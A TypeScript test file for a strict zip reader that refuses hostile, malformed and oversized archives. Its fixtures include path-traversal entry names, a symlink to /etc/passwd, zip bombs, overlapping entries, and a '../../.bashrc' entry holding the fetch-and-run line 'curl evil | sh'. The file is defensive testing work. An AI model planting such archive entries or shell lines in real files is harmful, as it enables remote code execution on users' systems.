// The strict zip reader: what artifact uploads produce reads back exactly; hostile, broken
// and oversized archives are refused with a message that says why.
import { randomBytes } from 'node:crypto';
import { crc32 as zlibCrc32 } from 'node:zlib';
import {
  crc32,
  DEFAULT_ZIP_LIMITS,
  findZipEntry,
  listZipEntries,
  normaliseEntryName,
  readZipEntry,
  ZipError,
  type ZipLimits,
} from '../../src/util/zip.js';
import { makeZip, type TestZipEntry } from '../gates/provenance/fixtures.js';

function readAll(archive: Buffer, limits?: ZipLimits): Record<string, string> {
  const entries = listZipEntries(archive, limits);
  return Object.fromEntries(
    entries.filter((e) => !e.isDirectory).map((e) => [e.name, readZipEntry(archive, e).toString('utf8')]),
  );
}

function refusal(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(ZipError);
    return (error as Error).message;
  }
  throw new Error('expected a ZipError, but nothing was thrown');
}

const refusedListing = (entries: TestZipEntry[], limits?: ZipLimits): string =>
  refusal(() => listZipEntries(makeZip(entries), limits));
const refusedReading = (entries: TestZipEntry[]): string => refusal(() => readAll(makeZip(entries)));

describe('reading archives', () => {
  it('reads stored and deflated entries', () => {
    const archive = makeZip([
      { name: 'stored.txt', data: 'kept as is', method: 'store' },
      { name: 'deflated.json', data: '{"a":1}'.repeat(50), method: 'deflate' },
    ]);
    expect(readAll(archive)).toEqual({ 'stored.txt': 'kept as is', 'deflated.json': '{"a":1}'.repeat(50) });
  });

  it('reads entries whose sizes are only in the central directory (data descriptors)', () => {
    const archive = makeZip([{ name: 'metadata.json', data: '{"tag":"v1"}', dataDescriptor: true }]);
    expect(readAll(archive)).toEqual({ 'metadata.json': '{"tag":"v1"}' });
  });

  it('reads empty files, directories and an archive comment', () => {
    const archive = makeZip(
      [
        { name: 'dir/', method: 'store' },
        { name: 'dir/empty', data: '' },
      ],
      { comment: 'made by a test' },
    );
    const entries = listZipEntries(archive);
    expect(entries.map((e) => [e.name, e.isDirectory])).toEqual([
      ['dir/', true],
      ['dir/empty', false],
    ]);
    expect(readZipEntry(archive, entries[1]!).length).toBe(0);
  });

  it('reads an empty archive', () => {
    expect(listZipEntries(makeZip([]))).toEqual([]);
  });

  it('finds entries by their normalised name', () => {
    const entries = listZipEntries(makeZip([{ name: './out//metadata.json', data: '{}' }]));
    expect(entries[0]!.name).toBe('out/metadata.json');
    expect(findZipEntry(entries, 'out/metadata.json')).toBe(entries[0]);
    expect(findZipEntry(entries, './out/metadata.json')).toBe(entries[0]);
    expect(findZipEntry(entries, 'metadata.json')).toBeUndefined();
  });

  it('computes CRC-32 as zlib does', () => {
    for (const size of [0, 1, 7, 1000, 65_537]) {
      const data = randomBytes(size);
      expect(crc32(data)).toBe(zlibCrc32(data));
    }
    expect(crc32(Buffer.from('123456789'))).toBe(0xcbf43926);
  });
});

describe('entries that would land outside the extraction directory', () => {
  it.each([
    ['../x', /climbs out/],
    ['a/../../x', /climbs out/],
    ['a/..', /climbs out/],
    ['/etc/x', /absolute/],
    ['C:\\x', /backslash/],
    ['C:/x', /drive letter/],
    ['..\\x', /backslash/],
    ['dir\\..\\..\\x', /backslash/],
    ['a\u0000b', /control/],
    ['.', /names no file/],
  ])('refuses %j', (name, reason) => {
    expect(refusedListing([{ name, data: 'x' }])).toMatch(reason);
  });

  it('refuses the whole archive even when the hostile entry is not the one wanted', () => {
    const message = refusedListing([
      { name: 'metadata.json', data: '{}' },
      { name: '../../.bashrc', data: 'curl evil | sh' },
    ]);
    expect(message).toContain('"../../.bashrc"');
  });

  it('refuses symbolic links', () => {
    expect(
      refusedListing([{ name: 'link', data: '/etc/passwd', unixMode: 0o120777, method: 'store' }]),
    ).toMatch(/symbolic link/);
  });

  it('accepts ordinary Unix files', () => {
    expect(readAll(makeZip([{ name: 'run.sh', data: 'echo', unixMode: 0o100755 }]))).toEqual({
      'run.sh': 'echo',
    });
  });

  it('refuses two entries with one name', () => {
    expect(
      refusedListing([
        { name: 'metadata.json', data: '{"a":1}' },
        { name: './metadata.json', data: '{"a":2}' },
      ]),
    ).toMatch(/twice/);
  });

  it('refuses names that are not UTF-8', () => {
    const archive = makeZip([{ name: 'ab', data: 'x' }]);
    archive[archive.lastIndexOf('ab')] = 0xff; // the central directory's copy of the name
    expect(refusal(() => listZipEntries(archive))).toMatch(/UTF-8/);
  });

  it('normalises harmless spellings and refuses the rest', () => {
    expect(normaliseEntryName('a/./b//c')).toBe('a/b/c');
    expect(normaliseEntryName('dir/')).toBe('dir/');
    expect(() => normaliseEntryName('')).toThrow(ZipError);
    expect(() => normaliseEntryName('x/../y')).toThrow(/climbs out/);
  });
});

describe('zip bombs', () => {
  const zeros = Buffer.alloc(2 * 1024 * 1024);

  it('refuses an entry that compresses far better than real files', () => {
    expect(refusedListing([{ name: 'bomb.bin', data: zeros }])).toMatch(/ratio over 200:1/);
  });

  it('refuses archives whose entries declare too much in total', () => {
    const limits = { ...DEFAULT_ZIP_LIMITS, maxTotalBytes: 1000 };
    const entries = [1, 2, 3].map((n) => ({
      name: `part${n}`,
      data: randomBytes(400),
      method: 'store' as const,
    }));
    expect(refusedListing(entries, limits)).toMatch(/over 1000 bytes uncompressed in total/);
  });

  it('refuses an entry declaring more than the per-entry limit', () => {
    const limits = { ...DEFAULT_ZIP_LIMITS, maxEntryBytes: 100 };
    expect(refusedListing([{ name: 'big', data: randomBytes(101) }], limits)).toMatch(
      /over the 100-byte limit/,
    );
  });

  it('refuses too many entries', () => {
    const limits = { ...DEFAULT_ZIP_LIMITS, maxEntries: 2 };
    expect(refusedListing([{ name: 'a' }, { name: 'b' }, { name: 'c' }], limits)).toMatch(/3 entries/);
  });

  it('stops inflating at the declared size when an entry lies about it', () => {
    // Declares 10 bytes, inflates to 2 MiB: only 11 bytes are ever produced.
    expect(refusedReading([{ name: 'liar.bin', data: zeros, declaredSize: 10 }])).toMatch(
      /inflates beyond its declared 10 bytes/,
    );
  });

  it('refuses an entry holding less than it declares', () => {
    expect(refusedReading([{ name: 'short.txt', data: 'abc', declaredSize: 5 }])).toMatch(
      /holds 3 bytes, but declares 5/,
    );
  });
});

describe('broken archives', () => {
  const archive = makeZip([
    { name: 'metadata.json', data: '{"tag":"v1.2.0","version":"1.2.0"}' },
    { name: 'notes.txt', data: 'release notes' },
  ]);

  it.each([
    ['cut at the end', archive.subarray(0, archive.length - 5)],
    ['cut in half', archive.subarray(0, Math.floor(archive.length / 2))],
    ['cut to a few bytes', archive.subarray(0, 10)],
    ['empty', Buffer.alloc(0)],
    ['not a zip at all', Buffer.from('<html>502 Bad Gateway</html>'.repeat(3))],
  ])('refuses an archive %s', (_label, broken) => {
    expect(refusal(() => listZipEntries(broken))).toMatch(/not a zip|truncated|garbled|too short/);
  });

  it('refuses an archive with bytes missing from the middle', () => {
    const damaged = Buffer.concat([archive.subarray(0, 40), archive.subarray(45)]);
    expect(refusal(() => readAll(damaged))).toMatch(/truncated|garbled|disagrees|CRC|corrupt/);
  });

  it('refuses an entry whose CRC does not match its content', () => {
    expect(refusedReading([{ name: 'metadata.json', data: '{}', crc: 0x12345678 }])).toMatch(/CRC-32/);
  });

  it('refuses corrupt deflate data', () => {
    const good = makeZip([{ name: 'a.txt', data: 'hello hello hello' }]);
    const entry = listZipEntries(good)[0]!;
    good.fill(0xff, entry.dataOffset, entry.dataOffset + entry.compressedSize);
    expect(refusal(() => readZipEntry(good, entry))).toMatch(/corrupt deflate data/);
  });

  it('refuses encrypted entries and unknown compression methods', () => {
    expect(refusedListing([{ name: 'secret', data: 'x', extraFlags: 1 }])).toMatch(/encrypted/);
    expect(refusedListing([{ name: 'b.bz2', data: 'x', methodNumber: 12 }])).toMatch(/method 12/);
  });

  it('refuses a local header that disagrees with the central directory', () => {
    expect(refusedListing([{ name: 'metadata.json', localName: 'metadata.jsoN', data: '{}' }])).toMatch(
      /disagrees/,
    );
    const sizes = makeZip([{ name: 'a', data: 'abc', method: 'store' }]);
    sizes.writeUInt32LE(99, 22); // the local header's uncompressed size
    expect(refusal(() => listZipEntries(sizes))).toMatch(/disagrees .* sizes or CRC/);
  });

  it('refuses a stored entry whose sizes differ', () => {
    expect(refusedListing([{ name: 'a', data: 'abc', method: 'store', declaredSize: 4 }])).toMatch(
      /stored entry 'a' declares 4 bytes/,
    );
  });

  it('refuses an end record that miscounts the entries', () => {
    expect(refusal(() => listZipEntries(makeZip([{ name: 'a', data: 'x' }], { count: 2 })))).toMatch(
      /missing or garbled/,
    );
    expect(
      refusal(() =>
        listZipEntries(
          makeZip(
            [
              { name: 'a', data: 'x' },
              { name: 'b', data: 'y' },
            ],
            { count: 1 },
          ),
        ),
      ),
    ).toMatch(/more bytes than its entries/);
  });

  it('refuses zip64 archives', () => {
    expect(refusal(() => listZipEntries(makeZip([], { count: 0xffff })))).toMatch(/zip64/);
  });

  it('refuses entries that share bytes', () => {
    // Entry 'b' is hidden inside the stored data of entry 'a', and the directory lists both.
    const inner = makeZip([{ name: 'b', data: 'inner', method: 'store' }]);
    const innerLocal = inner.subarray(0, 30 + 1 + 5);
    const outer = makeZip([{ name: 'a', data: innerLocal, method: 'store' }]);
    const outerDirectoryStart = outer.readUInt32LE(outer.length - 6);
    const innerDirectoryStart = inner.readUInt32LE(inner.length - 6);
    const hidden = Buffer.from(inner.subarray(innerDirectoryStart, inner.length - 22));
    hidden.writeUInt32LE(30 + 1, 42); // b's local header: inside a's data
    const directory = Buffer.concat([outer.subarray(outerDirectoryStart, outer.length - 22), hidden]);
    const end = Buffer.from(outer.subarray(outer.length - 22));
    end.writeUInt16LE(2, 8);
    end.writeUInt16LE(2, 10);
    end.writeUInt32LE(directory.length, 12);
    const overlapping = Buffer.concat([outer.subarray(0, outerDirectoryStart), directory, end]);
    expect(refusal(() => listZipEntries(overlapping))).toMatch(/'a' and 'b' overlap/);
  });
});
